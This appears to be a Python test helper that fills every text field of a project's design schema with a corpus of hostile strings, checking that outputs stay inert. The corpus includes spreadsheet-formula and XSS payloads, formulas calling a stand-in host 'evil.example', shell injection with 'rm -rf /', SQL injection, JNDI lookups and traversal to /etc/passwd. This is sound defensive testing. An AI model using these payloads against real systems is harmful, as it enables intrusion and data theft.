"""Texts that mean harm, and designs that carry them in every text field there is: the schema itself says which."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator, Sequence
from typing import Any
from unicodedata import normalize

from marshmallow import Schema, fields

from planner.schemas.design import DESIGN_SCHEMA
from planner.schemas.fields import Items, Line, _Text
from tests.designs import SOUND_PAIR, make_document

HOST = "evil.example"
"""The host that every address in the texts leads to: nothing that is made may refer to it."""

FORMULAS = (
    f'=HYPERLINK("http://{HOST}/","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|calc",
    "＝1+1+full-width",
    " =1+1 after a blank",
    '","=1+1","',
    "a;=1+1;b",
    f'=IMPORTXML("http://{HOST}/?x","//a")',
    "_x003D_1+1 _x000D_",
    "#N/A #REF!",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)",
    "</title></style></textarea></svg>",
    "<!-- --> ]]> <![CDATA[ <!DOCTYPE x>",
    "&lt;b&gt; &#60;i&#62; &amp;quot;",
    f'<svg><use href="//{HOST}/a.svg#x"/></svg>',
    f'<a href="javascript:alert(4)" ping="//{HOST}">x</a>',
    "</t></is></c><f>1+1</f>",
    "*/ } policies { /* --> <!-- ",
)
ADDRESSES = (
    f"http://{HOST}/a?b#c",
    "javascript:alert(5)//",
    "data:text/html,<script>alert(6)</script>",
    "file:///etc/passwd",
    f"url(//{HOST}/a.css) @import '//{HOST}'",
    f"\\\\{HOST}\\share\\a.ico",
    f"[link](http://{HOST}) ![i](http://{HOST}/i.png)",
    f"www.{HOST} <mailto:a@{HOST}> @everyone #1",
)
TEMPLATES = (
    "{{ 7*7 }} {% include 'x' %} {# c #}",
    "${jndi:ldap://a} #{x} %(a)s {0} {a.b}",
    "`id` $(id) ; rm -rf / | cat && x",
    "'; DROP TABLE designs; --",
    '"; flush ruleset; #',
    "| a | b | **bold** ~~x~~ __y__",
    "1. first - second + third > q",
    "subgraph x end --> click a call b()",
    "../../../etc/passwd%00.pdf",
    "$INCLUDE /etc/passwd ( ) @ IN A",
)
ODD = (
    "é\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u0323\u0324" * 8,
    "ﷺ" * 60,
    "한국어 العربية עברית ไทย हिन्दी 𠀀",
    "👩\u200a👩 🏳 💣 \U0001f9ff",
    "a/" * 60,
    "W" * 120,
    "\u00a0\u2003 blanks of every kind \u3000\u00a0",
    "NULL undefined NaN true 1e999",
    "ß ﬁ İ ı K ſ Å Ⅷ ½ ²",
)
CORPUS = tuple(normalize("NFC", text) for text in (*FORMULAS, *MARKUP, *ADDRESSES, *TEMPLATES, *ODD))
"""Texts that a design may hold: each must come out of every sink as text and nothing else."""

REFUSED = {
    "NUL": "a\x00b",
    "line feed": "a\nSet-Cookie: a=b",
    "carriage return and line feed": "a\r\nX-Injected: 1",
    "escape": "\x1b]0;title\x07\x1b[2J",
    "C1 control": "a\x85\x9b31mb",
    "right-to-left override": "a\u202egnp.exe",
    "right-to-left isolate": "a\u2067b\u2069",
    "Arabic letter mark": "a\u061cb",
    "zero-width space": "ad\u200bmin",
    "zero-width joiner": "ad\u200dmin",
    "word joiner": "ad\u2060min",
    "byte order mark": "\ufeffadmin",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "noncharacter": "a\ufffeb",
    "another noncharacter": "a\ufdd0b",
    "interlinear annotation": "a\ufff9b\ufffb",
    "high surrogate": "a\ud800",
    "low surrogate": "\udfffa",
    "surrogates the wrong way round": "\udc00\ud800",
    "too long": "a" * 2_000,
    "nothing": "",
}
"""Texts that no field takes, by what is wrong with them."""

ADDRESSED = {
    "name": f"<img src='http://{HOST}/1.png'>",
    "customer": f"http://{HOST}/2 https://{HOST}/3",
    "author": f"url(http://{HOST}/4) file:///etc/passwd",
    "notes": f"<link rel=attachment href=file:///etc/passwd> @import url(//{HOST}/5); \\\\{HOST}\\share "
    f"<iframe src=//{HOST}/6></iframe> data:text/css,@import'//{HOST}/7'",
    "reference": f"[x](http://{HOST}/8) ![y](http://{HOST}/9)",
}
"""Texts of a design that are nothing but addresses, in the forms in which engines follow them."""

Make = Callable[[int], str]


def tame(text: str, place: int) -> str:
    """Return a harmless text of the same length and words, one for each place; no host name, as the other is none."""
    letters = iter(f"n{place:04d}".ljust(len(text) - 1, "n")[: len(text) - 1] + "_")
    return "".join(" " if each in (" ", "/") else next(letters) for each in text)


def hostile_document(first: int = 0) -> dict[str, Any]:
    """Return a design whose every text is of the corpus, in its order, beginning with the one of this number."""
    return filled(lambda place: CORPUS[(first + place) % len(CORPUS)])


def tame_document(first: int = 0) -> dict[str, Any]:
    """Return the same design with a harmless text in place of each hostile one."""
    return filled(lambda place: tame(CORPUS[(first + place) % len(CORPUS)], place))


def filled(make: Make) -> dict[str, Any]:
    """Return a design with every part that has texts, and in each text field what `make` gives for its place."""
    places = iter(range(1_000_000))
    document = _filled(DESIGN_SCHEMA, with_every_part(), lambda: make(next(places)))
    # Two clusters are a deployment by a label that they share.
    document["clusters"][1]["pair"] = document["clusters"][0]["pair"]
    return document


def with_every_part() -> dict[str, Any]:
    """Return a sound pair with all the parts in which there are texts: waivers, confirmations, zones, certificates."""
    document = make_document(SOUND_PAIR, confirm=("MEM-10", "NET-03"))
    document["waivers"] = [
        {"rule": rule, "reason": "", "approver": "", "expiry": "2027-01-31"} for rule in ("NET-01", "MEM-04")
    ]
    document["unified_cm"] |= {"phone_security_profiles": []}
    document["option_keys"] = []
    for cluster in document["clusters"]:
        cluster["round_trip_ms"] = 95
        cluster["zones"] = cluster["zones"] + [{"type": "neighbor", "peers": ["b.example"]}] * 3
        for peer in cluster["peers"]:
            peer |= {"option_keys": [], "clustering": {"cluster_name": "", "peers": [peer["address"]]}}
    return document


def texts_of(schema: Schema, path: str = "") -> Iterator[tuple[str, _Text]]:
    """Yield the path of every text field of a schema, `*` for the members of a list, and the field."""
    for name, field in schema.fields.items():
        yield from _texts(field, f"{path}/{name}")


def _texts(field: fields.Field[Any], path: str) -> Iterator[tuple[str, _Text]]:
    if isinstance(field, _Text):
        yield path, field
    elif isinstance(field, Items):
        yield from _texts(field.inner, f"{path}/*")
    elif isinstance(field, fields.Nested):
        yield from texts_of(field.schema, path)


def values_at(document: Any, path: Sequence[str]) -> Iterator[Any]:
    """Yield what stands at a path of `texts_of`."""
    if not path:
        yield document
    elif isinstance(document, list) and path[0] == "*":
        for member in document:
            yield from values_at(member, path[1:])
    elif isinstance(document, dict) and path[0] in document:
        yield from values_at(document[path[0]], path[1:])


def free_texts() -> list[str]:
    """Return the paths of the fields that take any text."""
    return [
        path for path, field in texts_of(DESIGN_SCHEMA) if isinstance(field, Line) or type(field).__name__ == "Lines"
    ]


def _filled(schema: Schema, document: dict[str, Any], make: Callable[[], str]) -> dict[str, Any]:
    made = copy.copy(document)
    for name, field in schema.fields.items():
        kind = type(field).__name__
        if kind in ("Line", "Lines"):
            made[name] = make()
        elif isinstance(field, Items) and isinstance(field.inner, Line):
            made[name] = [make() for _ in range(4)]
        elif isinstance(field, Items) and isinstance(field.inner, fields.Nested) and name in document:
            made[name] = [_filled(field.inner.schema, member, make) for member in document[name]]
        elif isinstance(field, fields.Nested) and name in document:
            made[name] = _filled(field.schema, document[name], make)
    return made
